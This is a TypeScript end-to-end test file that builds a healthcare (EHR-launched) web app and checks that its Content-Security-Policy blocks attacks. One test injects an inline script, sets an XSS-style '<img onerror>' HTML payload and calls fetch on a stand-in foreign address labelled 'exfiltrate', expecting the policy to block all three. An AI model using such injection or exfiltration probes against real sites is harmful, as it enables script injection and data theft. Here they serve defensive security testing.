/**
 * The BUILT app under its Content-Security-Policy (launch/csp.ts): one `vite build` into a
 * temporary directory, served by the sandbox EHR, launched from the chart. A full EHR launch and
 * care panel must run with no CSP violation at all, while injected inline script, HTML sinks
 * and calls to a foreign server are refused (so the zero above is not a deaf listener).
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT, startSandbox } from '../../launch/sandbox/server.ts';
import { useBrowser } from './support/browser.ts';
import { openChart } from './support/app-view.ts';
import { waitForPanel } from './support/panel-view.ts';
import { E2E_ANCHOR, type RunningSandbox } from './support/sandbox.ts';

const tab = useBrowser();
let running: RunningSandbox | undefined;
let outDir = '';

beforeAll(async () => {
  outDir = mkdtempSync(join(tmpdir(), 'caregap-csp-dist-'));
  const { build } = await import('vite');
  await build({
    root: REPO_ROOT,
    configFile: join(REPO_ROOT, 'vite.config.ts'),
    logLevel: 'error',
    build: { outDir, emptyOutDir: true, sourcemap: false, reportCompressedSize: false },
  });
  running = await startSandbox({
    port: 0,
    serveApp: 'dist',
    distDir: outDir,
    seed: 42,
    patientCount: 4,
    anchorDate: E2E_ANCHOR,
    autoApprove: ['write'],
  });
}, 120_000);

afterAll(async () => {
  await running?.close();
  if (outDir) {
    rmSync(outDir, { recursive: true, force: true });
  }
});

/** Reports every `securitypolicyviolation` of every frame (and CSP console errors) to the test. */
async function recordViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('__caregapCspViolation', (v: string) => violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      void (window as unknown as { __caregapCspViolation(v: string): Promise<void> }).__caregapCspViolation(
        `${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} on ${location.pathname}`,
      );
    });
  });
  page.on('console', (m) => {
    if (/Content.Security.Policy|Trusted Type/i.test(m.text())) {
      violations.push(`console: ${m.text()}`);
    }
  });
  return violations;
}

function appFrame(page: Page): Frame {
  const frame = page.frames().find((f) => new URL(f.url()).pathname.endsWith('/index.html') && f !== page.mainFrame());
  if (!frame) {
    throw new Error(
      `no app frame among ${page
        .frames()
        .map((f) => f.url())
        .join(', ')}`,
    );
  }
  return frame;
}

describe('the built app under its Content-Security-Policy', () => {
  it('ships a meta CSP without inline scripts in every built page', () => {
    for (const page of ['index.html', 'launch/index.html', 'launch/standalone.html']) {
      const html = readFileSync(join(outDir, page), 'utf8');
      expect(html, page).toMatch(
        /<meta http-equiv="Content-Security-Policy" content="default-src 'none'; script-src 'self';/,
      );
      expect(html, page).toMatch(/connect-src 'self'/);
      expect(html, page).toMatch(/worker-src 'self'/);
      expect(html, page).toMatch(/object-src 'none'/);
      expect(html, page).toMatch(/base-uri 'self'/);
      expect(html, page).toMatch(/require-trusted-types-for 'script'; trusted-types default/);
      // No 'unsafe-inline' / 'unsafe-eval' escape hatch anywhere (eval stays refused).
      expect(html, page).not.toMatch(/unsafe-/);
      expect(
        html.match(/<script\b[^>]*>/g)?.every((tag) => /\bsrc=/.test(tag)),
        page,
      ).toBe(true);
    }
  });

  it('launches from the EHR chart and evaluates the panel with no CSP violation, and refuses injected code', async () => {
    const { page } = tab();
    const violations = await recordViolations(page);
    const app = await openChart(page, running!, { patient: 'screen-due' });
    await waitForPanel(app, 45_000);
    await app.locator('[data-testid="measure-cms2"]').waitFor({ timeout: 20_000 });
    expect(violations).toEqual([]);

    const frame = appFrame(page);
    expect(
      await frame.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]') !== null),
    ).toBe(true);
    const probes = await frame.evaluate(async () => {
      const w = window as unknown as Record<string, unknown>;
      const out: Record<string, string> = {};
      const script = document.createElement('script');
      try {
        script.textContent = 'window.__inlineRan = 1';
        document.head.append(script);
        out.inlineScript = w.__inlineRan === 1 ? 'ran' : 'blocked';
      } catch {
        out.inlineScript = 'blocked';
      }
      const div = document.createElement('div');
      try {
        div.innerHTML = '<img src=x onerror="window.__sinkRan=1">';
        out.htmlSink = 'accepted';
      } catch {
        out.htmlSink = 'blocked';
      }
      try {
        await fetch('http://192.0.2.1:9/exfiltrate');
        out.foreignFetch = 'sent';
      } catch {
        out.foreignFetch = 'blocked';
      }
      return out;
    });
    expect(probes).toEqual({ inlineScript: 'blocked', htmlSink: 'blocked', foreignFetch: 'blocked' });
    // The listener that stayed silent during the launch does hear real violations.
    await expect.poll(() => violations.filter((v) => /connect-src/.test(v)).length).toBeGreaterThan(0);
  });

  it('names its own policy when it blocks the EHR (an iss missing from connect-src), not the network (issue #13 §5)', async () => {
    const { page } = tab();
    await page.goto(
      `${running!.origin}/launch/index.html?iss=${encodeURIComponent('http://127.0.0.1:9/fhir')}&launch=x`,
    );
    const error = page.locator('[data-testid="launch-error"]');
    await error.waitFor({ timeout: 30_000 });
    expect(await error.getAttribute('data-kind')).toBe('csp-blocked');
    expect(await error.textContent()).toMatch(
      /Blocked by connect-src: http:\/\/127\.0\.0\.1:9.*CAREGAP_CSP_CONNECT_SRC/s,
    );
  });

  it('sends the policy as a header too, with frame-ancestors (which a meta policy cannot carry)', async () => {
    for (const page of ['/index.html', '/launch/index.html', '/launch/standalone.html']) {
      const res = await fetch(`${running!.origin}${page}`);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, page).toMatch(/frame-ancestors 'self' http:\/\/127\.0\.0\.1:\d+/);
      expect(csp, page).toMatch(/script-src 'self';/);
      expect(csp, page).not.toMatch(/unsafe-/);
      expect(res.headers.get('referrer-policy'), page).toBe('no-referrer');
      expect(res.headers.get('x-content-type-options'), page).toBe('nosniff');
    }
  });
});
